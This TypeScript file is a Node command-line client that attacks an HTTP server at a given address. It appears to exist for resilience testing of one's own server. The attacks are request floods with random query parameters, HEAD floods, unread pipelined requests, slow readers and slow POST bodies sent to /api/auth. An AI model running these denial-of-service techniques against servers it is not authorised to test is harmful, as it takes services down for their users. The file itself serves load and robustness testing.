import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout } from 'node:timers/promises'
import { parseArgs } from 'node:util'

/*
 * A program that attacks a server in one of these ways, over its own sockets, and prints what it received. It is a
 * separate process, so that measurements of the server's response do not include waiting for it.
 */
const { values, positionals } = parseArgs({
  allowPositionals: true,
  options: {
    address: { type: 'string', default: '' },
    path: { type: 'string', default: '/' },
    many: { type: 'string', default: '1' },
    seconds: { type: 'string', default: '1' },
  },
})
const { hostname, port } = new URL(values.address)
const { path } = values
const many = Number(values.many)
const seconds = Number(values.seconds)

const open = async (): Promise<Socket> => {
  const socket = connect(Number(port), hostname)
  // Attackers expect to be cut off.
  socket.on('error', () => {})
  await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined)
  return socket
}

const openAll = async (count: number): Promise<Socket[]> => {
  const sockets: Socket[] = []
  // Fewer at a time than fit in the listener's backlog.
  while (sockets.length < count)
    sockets.push(...(await Promise.all(Array.from({ length: Math.min(100, count - sockets.length) }, open))))
  return sockets
}

const ask = (method: string, target: string) =>
  `${method} ${target} HTTP/1.1\r\nHost: ledger.example.org\r\n\r\n`

/** Makes requests one after another over fifty connections, which are reopened when the server closes them. */
async function askOverFiftyConnections(method: string, targetOf: (index: number) => string): Promise<string> {
  let sent = 0
  let answered = 0
  await Promise.all(
    Array.from({ length: 50 }, async () => {
      let socket = await open()
      while (sent < many) {
        const target = targetOf((sent += 1))
        if (socket.destroyed || !socket.writable) socket = await open()
        socket.write(ask(method, target))
        if (await answerArrives(socket, method)) answered += 1
      }
      socket.destroy()
    }),
  )
  return `${answered} answers`
}

async function answerArrives(socket: Socket, method: string): Promise<boolean> {
  const { promise, resolve } = Promise.withResolvers<boolean>()
  let received = Buffer.alloc(0)
  const take = (part: Buffer) => {
    received = Buffer.concat([received, part])
    const head = received.indexOf('\r\n\r\n')
    if (head < 0) return
    const size = /\r\ncontent-length: (\d+)/i.exec(received.toString('latin1', 0, head))?.[1]
    if (method === 'HEAD' || received.length >= head + 4 + Number(size)) resolve(true)
  }
  const lost = () => resolve(false)
  socket.on('data', take).once('close', lost)
  try {
    return await promise
  } finally {
    socket.off('data', take).off('close', lost)
  }
}

/** Holds this many connections, does something on each every second, and counts those that are cut off. */
async function hold(begin: (socket: Socket) => void, eachSecond: (socket: Socket) => void): Promise<string> {
  const sockets = await openAll(many)
  for (const socket of sockets) begin(socket)
  for (let second = 0; second < seconds; second += 1) {
    await setTimeout(1_000)
    for (const socket of sockets) if (!socket.destroyed) eachSecond(socket)
  }
  const cut = sockets.filter(({ destroyed }) => destroyed).length
  for (const socket of sockets) socket.destroy()
  return `${cut} of ${many} cut off`
}

const FILLER = 'x'.repeat(1_000)

const ATTACKS: Readonly<Record<string, () => Promise<string>>> = {
  randomParameters: () =>
    askOverFiftyConnections('GET', (index) => `${path}${path.includes('?') ? '&' : '?'}x=${index}${FILLER}`),
  heads: () => askOverFiftyConnections('HEAD', () => path),
  pipelinedUnread: () =>
    hold(
      (socket) => void socket.pause().write(ask('GET', path).repeat(20)),
      () => {},
    ),
  slowReaders: () =>
    hold(
      (socket) => void socket.pause().write(ask('GET', path)),
      (socket) => void socket.read(100),
    ),
  slowBodies: () =>
    hold(
      (socket) =>
        void socket
          .resume()
          .write(
            'POST /api/auth HTTP/1.1\r\nHost: ledger.example.org\r\nContent-Type: application/json\r\nContent-Length: 10000\r\n\r\n{',
          ),
      (socket) => void socket.write(' '),
    ),
}

console.log(await ATTACKS[positionals[0] ?? '']?.())
process.exit()
